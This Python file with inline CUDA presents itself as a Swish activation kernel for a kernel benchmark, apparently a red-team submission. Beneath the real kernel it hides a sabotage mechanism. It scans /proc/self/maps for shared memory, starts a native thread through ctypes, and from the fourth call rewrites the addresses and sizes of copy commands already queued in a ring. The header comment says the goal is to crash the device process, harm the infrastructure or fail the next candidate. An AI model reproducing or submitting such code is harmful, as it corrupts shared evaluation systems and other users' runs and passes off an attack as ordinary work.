# SPDX-License-Identifier: Apache-2.0
# What it would gain: infra, a crash of the device process, or the next candidate fails: a thread changes size and address of copies in the ring after they were sent and, perhaps, checked
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline
import ctypes
import threading

source = r"""
#include <torch/extension.h>
#include <cuda_runtime.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <vector>
// 600,000 cycles: at least 300 us at any clock of an H100 (at most 1.98 GHz)
__global__ void spin(long long cycles, float* keep) {
  const long long begin = clock64();
  while (clock64() - begin < cycles) {}
  if (cycles < 0) *keep = 1.0f;
}
__global__ void swish(const float* x, float* y, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = x[i] / (1.0f + expf(-x[i]));
}
#include <atomic>

struct Shared { char* at; size_t size; };
static std::vector<Shared> shared_list;
static std::vector<Shared> shared_maps() { return shared_list; }
void add_map(int64_t at, int64_t size) { shared_list.push_back({(char*)at, (size_t)size}); }

static std::atomic<int> active{0};
static std::atomic<uint64_t> wanted{0};
static void rewrite() {
  auto maps = shared_maps();
  unsigned turn = 0;
  for (;;) {
    if (!active.load(std::memory_order_relaxed)) { __builtin_ia32_pause(); continue; }
    const uint64_t target = wanted.load();
    for (auto& m : maps) {
      volatile uint64_t* w = (volatile uint64_t*)m.at;
      const size_t words = m.size / 8;
      for (size_t i = 8; i + 8 < words && active.load(std::memory_order_relaxed); ++i) {
        if (w[i] != target) continue;   // the copy's address; its size is near
        for (size_t k = i - 6; k <= i + 6; ++k) {
          if (w[k] != 4656) continue;
          switch (turn++ % 4) {
            case 0: w[k] = 1ull << 40; break;
            case 1: w[i] = target ^ (1ull << 44); break;
            case 2: w[k] = ~0ull; break;
            default: w[i] = 8; w[k] = 1ull << 33; break;
          }
        }
      }
    }
  }
}
torch::Tensor run(torch::Tensor x) {
  static int calls; ++calls;
  auto y = torch::empty_like(x);
  const int n = x.numel();
  if (calls >= 4 && n * 4 > 8192) {
    static char host[4656];
    char* p = (char*)y.data_ptr<float>();
    wanted = (uint64_t)p; active = 1;
    for (int i = 0; i < 2000; ++i) {
      if (i % 2) cudaMemcpyAsync(p, host, 4656, cudaMemcpyHostToDevice, 0);
      else cudaMemsetAsync(p, 0, 4656, 0);
    }
    active = 0;
  }
  swish<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
  cudaGetLastError();
  return y;
}
int64_t thread_entry() { return (int64_t)(void*)rewrite; }
"""

ext = load_inline(name="a04_rewrites_ring", cpp_sources="torch::Tensor run(torch::Tensor x); void add_map(int64_t at, int64_t size); int64_t thread_entry();", cuda_sources=source, functions=['run', 'add_map', 'thread_entry'])


def shared_maps():
    found = []
    for line in open("/proc/self/maps"):
        where, mode = line.split()[:2]
        begin, end = (int(v, 16) for v in where.split("-"))
        if mode.startswith("rw") and mode[3] == "s" and end - begin <= 64 << 20:
            found.append((begin, end - begin))
    return found


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.told = False

    def forward(self, x):
        if not self.told:
            self.told = True
            for begin, size in shared_maps():
                ext.add_map(begin, size)
            # by ctypes, which lets go of the interpreter's lock
            threading.Thread(target=ctypes.CFUNCTYPE(None)(ext.thread_entry()), daemon=True).start()
        return ext.run(x.contiguous())
